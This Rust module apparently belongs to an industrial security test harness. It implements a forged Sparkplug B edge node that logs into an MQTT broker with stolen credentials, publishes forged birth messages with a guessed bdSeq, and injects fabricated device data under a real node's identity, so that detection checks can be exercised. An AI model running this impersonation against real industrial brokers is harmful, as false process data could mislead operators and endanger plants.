//! A forged Sparkplug B node: an attacker who stole another node's credentials (its enrolled
//! certificate bundle, or its user name and password) connects to the broker as that node and
//! publishes data in its name: the real node's group, node and device topics, plausible values
//! from a plant of its own, but none of the real node's session state. Its seq numbers start
//! again from 0 (as any fresh edge node's do), a forged birth carries a guessed bdSeq, and it
//! publishes at its own pace next to the real node: what the platform's message-level checks
//! must notice.

use std::time::Duration;

use ironplant_core::Timestamp;
use ironplant_mqtt::client::{Client, ClientOptions, Connector, Event, TcpConnector};
use ironplant_mqtt::codec::QoS;
use ironplant_sparkplug::{EdgeError, MetricValue, Payload, Publish, Qos};
use tokio::sync::mpsc;

use crate::plant::Plant;
use crate::sparkplug::{edge_node, metric_values, EdgeSettings, METRICS};

/// Whom the forger impersonates and what it sends.
#[derive(Debug, Clone)]
pub struct ForgeSettings {
    /// The broker, `host:port`.
    pub broker: String,
    /// The real node's identity on the topics.
    pub group_id: String,
    pub edge_node_id: String,
    pub device_id: String,
    /// MQTT client id; by default `<node>-<group>-2`, which an enrolled node's certificate
    /// allows (`<name>-*`) without kicking the real node's connection off.
    pub client_id: Option<String>,
    /// DDATA messages to publish.
    pub messages: usize,
    /// Time between them (the real simulator node sends at most one a second).
    pub interval: Duration,
    /// `Some(bd_seq)`: first publish a forged NBIRTH + DBIRTH carrying this guessed bdSeq.
    pub birth: Option<u8>,
    /// Seed of the forger's own plant, where its plausible values come from.
    pub seed: u64,
}

impl Default for ForgeSettings {
    fn default() -> Self {
        let real = EdgeSettings::default();
        ForgeSettings {
            broker: real.broker,
            group_id: real.group_id,
            edge_node_id: real.edge_node_id,
            device_id: real.device_id,
            client_id: None,
            messages: 10,
            interval: Duration::from_millis(200),
            birth: None,
            seed: 666,
        }
    }
}

impl ForgeSettings {
    pub fn client_id(&self) -> String {
        self.client_id
            .clone()
            .unwrap_or_else(|| format!("{}-{}-2", self.edge_node_id, self.group_id))
    }
}

/// One forged message as it went out.
#[derive(Debug, Clone, PartialEq)]
pub struct Forged {
    pub topic: String,
    /// The Sparkplug seq it carries.
    pub seq: Option<u64>,
}

/// What the forger did.
#[derive(Debug, Clone, PartialEq)]
pub struct ForgeReport {
    pub client_id: String,
    pub messages: Vec<Forged>,
}

/// Why the forgery failed.
#[derive(Debug, thiserror::Error)]
pub enum ForgeError {
    #[error("invalid Sparkplug identity: {0}")]
    Identity(#[from] EdgeError),
    #[error("the broker at {broker} did not accept the stolen identity: {why}")]
    Connect { broker: String, why: String },
    #[error("publishing to {broker} failed: {why}")]
    Publish { broker: String, why: String },
}

/// How long connecting may take.
const CONNECT_TIMEOUT: Duration = Duration::from_secs(5);

/// Connects to the broker through `connector` with the stolen `credentials` (user name and
/// password; a stolen certificate goes into the connector), publishes the forged messages and
/// disconnects.
pub async fn forge_sparkplug<C: Connector>(
    s: &ForgeSettings,
    connector: C,
    credentials: Option<(String, String)>,
) -> Result<ForgeReport, ForgeError> {
    let edge_settings = EdgeSettings {
        broker: s.broker.clone(),
        group_id: s.group_id.clone(),
        edge_node_id: s.edge_node_id.clone(),
        device_id: s.device_id.clone(),
        interval: s.interval,
    };
    let mut plant = Plant::new(s.seed);
    let mut edge = edge_node(&edge_settings, plant.readings())?;
    let client_id = s.client_id();
    let mut options = ClientOptions::new(client_id.clone());
    options.connect_timeout = CONNECT_TIMEOUT;
    options.keep_alive = Duration::from_secs(10);
    if let Some((user, password)) = credentials {
        options.username = Some(user);
        options.password = Some(password.into_bytes().into());
    }
    let (client, mut events) = Client::connect_with(connector, options);
    let connected = wait_connected(&mut events).await;
    if let Err(why) = connected {
        client.disconnect().await;
        return Err(ForgeError::Connect {
            broker: s.broker.clone(),
            why,
        });
    }
    tracing::info!(broker = %s.broker, client_id = %client_id, group = %s.group_id, node = %s.edge_node_id, "forged sparkplug node connected");
    let mut sent = Vec::new();
    let result = async {
        if let Some(bd_seq) = s.birth {
            edge = edge.with_bd_seq(bd_seq);
            for m in edge.birth(Timestamp::now()) {
                send(&client, &s.broker, &m, &mut sent).await?;
            }
        }
        for i in 0..s.messages {
            if i > 0 {
                tokio::time::sleep(s.interval).await;
            }
            plant.step(s.interval);
            let updates: Vec<(&str, MetricValue)> = METRICS
                .iter()
                .map(|(name, _)| *name)
                .zip(metric_values(plant.readings()))
                .collect();
            let m = edge.device_data(&s.device_id, &updates, Timestamp::now())?;
            send(&client, &s.broker, &m, &mut sent).await?;
        }
        Ok(())
    }
    .await;
    client.disconnect().await;
    result.map(|()| ForgeReport {
        client_id,
        messages: sent,
    })
}

/// [`forge_sparkplug`] over plain TCP to `s.broker` (a broker without TLS).
pub async fn forge_sparkplug_plain(
    s: &ForgeSettings,
    credentials: Option<(String, String)>,
) -> Result<ForgeReport, ForgeError> {
    let tcp = TcpConnector {
        address: s.broker.clone(),
    };
    forge_sparkplug(s, tcp, credentials).await
}

async fn wait_connected(events: &mut mpsc::Receiver<Event>) -> Result<(), String> {
    let wait = async {
        loop {
            match events.recv().await {
                Some(Event::Connected { .. }) => return Ok(()),
                Some(Event::Disconnected { error }) => return Err(error),
                Some(Event::Publish(_)) => {}
                None => return Err("the client stopped".to_owned()),
            }
        }
    };
    tokio::time::timeout(CONNECT_TIMEOUT + Duration::from_secs(1), wait)
        .await
        .unwrap_or_else(|_| Err(format!("no CONNACK within {CONNECT_TIMEOUT:?}")))
}

async fn send(
    client: &Client,
    broker: &str,
    m: &Publish,
    sent: &mut Vec<Forged>,
) -> Result<(), ForgeError> {
    let qos = match m.qos {
        Qos::AtMostOnce => QoS::AtMostOnce,
        Qos::AtLeastOnce => QoS::AtLeastOnce,
    };
    client
        .publish(&m.topic, m.payload.clone(), qos, m.retain)
        .await
        .map_err(|e| ForgeError::Publish {
            broker: broker.to_owned(),
            why: e.to_string(),
        })?;
    sent.push(Forged {
        topic: m.topic.clone(),
        seq: Payload::decode_bytes(&m.payload).ok().and_then(|p| p.seq),
    });
    Ok(())
}
